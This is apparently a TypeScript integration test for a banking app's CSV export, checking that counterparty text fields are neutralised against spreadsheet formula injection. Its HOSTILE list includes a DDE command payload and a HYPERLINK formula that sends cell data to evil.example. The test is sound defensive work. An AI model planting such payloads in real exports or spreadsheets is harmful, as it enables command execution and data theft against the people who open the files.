import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LineFilter } from '../../../shared/statements';
import { tempContext } from '../../../test/integration/helpers';
import { isFormulaLike } from '../../csv/write';
import { storeCsvStatement } from './bank-csv/store';
import { exportLinesCsv } from './view';

/** Values a counterparty can put into a transfer and a bank passes on into a statement. */
const HOSTILE = [
  '=1+1',
  '+49 30 123',
  "-cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
  'Miete;=1+1',
  'Miete,=1+1',
  ' =1+1',
  '＝1+1',
  'Zeile 1\nZeile 2',
  'ein "Zitat"',
];

/** Every text column the export writes, as the ledger names it. */
const TEXT_COLUMNS = [
  'account_iban',
  'booking_date',
  'value_date',
  'currency',
  'counterparty_name',
  'counterparty_iban',
  'counterparty_bic',
  'remittance',
  'booking_text',
  'end_to_end_id',
  'mandate_id',
  'bank_reference',
  'bank_tx_code',
  'return_reason',
  'match_state',
];
/** Their positions in the exported row (column 3 is the amount). */
const TEXT_CELLS = [0, 1, 2, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15];
const AMOUNT_CELL = 3;

let ctx: ReturnType<typeof tempContext>;

beforeAll(() => {
  ctx = tempContext();
  const line = (k: number) => ({
    raw: `line ${k}`,
    parsed: {
      bookingDate: '2026-11-02',
      valueDate: null,
      amountCents: -1234 * (k + 1),
      currency: 'EUR',
      counterpartyName: null,
      counterpartyIban: null,
      counterpartyBic: null,
      remittance: null,
      bookingText: null,
      endToEndId: null,
      mandateId: null,
      creditorId: null,
      reference: null,
      chargeback: false,
    },
  });
  const { statementId } = storeCsvStatement(ctx.db, {
    sha256: 'a'.repeat(64),
    fileName: 'x.csv',
    bytes: Buffer.from('x'),
    accountIban: 'DE89370400440532013000',
    currency: 'EUR',
    messageName: 'CSV',
    warnings: [],
    lines: HOSTILE.map((_h, k) => line(k)),
    at: '2026-11-21T09:00:00.000Z',
  });
  const update = ctx.db.prepare(`UPDATE statement_line SET ${TEXT_COLUMNS.map((c) => `${c} = @v`).join(', ')} WHERE statement_id = @s AND line_no = @n`);
  HOSTILE.forEach((v, k) => update.run({ v, s: statementId, n: k + 1 }));
});
afterAll(() => ctx.cleanup());

const exported = (locale: 'de' | 'en') => Buffer.from(exportLinesCsv(ctx.db, LineFilter.parse({}), locale, '2026-11-21').base64, 'base64').toString('utf8');
const read = (text: string, delimiter: string) => parse(text, { delimiter, bom: true, relax_column_count: true }) as string[][];
const plainNumber = (cell: string) => /^-?[0-9]+(?:[.,][0-9]+)?$/.test(cell);

describe('statement lines exported as CSV', () => {
  for (const [locale, sep] of [
    ['de', ';'],
    ['en', ','],
  ] as const) {
    it(`gives back a hostile value from every text field, none of them a formula (${locale}, "${sep}")`, () => {
      const [header, ...rows] = read(exported(locale), sep);
      expect(header).toHaveLength(16);
      expect(rows).toHaveLength(HOSTILE.length);
      const byValue = new Map(rows.map((r) => [r[7]!.replace(/^'/, ''), r]));
      for (const value of HOSTILE) {
        const row = byValue.get(value);
        expect(row, value).toBeDefined();
        for (const k of TEXT_CELLS) expect(row![k], `${value} in cell ${k}`).toBe(isFormulaLike(value) ? `'${value}` : value);
        expect(plainNumber(row![AMOUNT_CELL]!)).toBe(true);
        expect(row![AMOUNT_CELL]!.startsWith('-')).toBe(true);
        for (const cell of row!) expect(!isFormulaLike(cell) || plainNumber(cell), cell).toBe(true);
      }
    });
  }

  it('writes amounts as numbers a spreadsheet reads: decimal comma in German, point in English', () => {
    expect(read(exported('de'), ';')[1]![AMOUNT_CELL]).toMatch(/^-[0-9]+,[0-9]{2}$/);
    expect(read(exported('en'), ',')[1]![AMOUNT_CELL]).toMatch(/^-[0-9]+\.[0-9]{2}$/);
  });
});
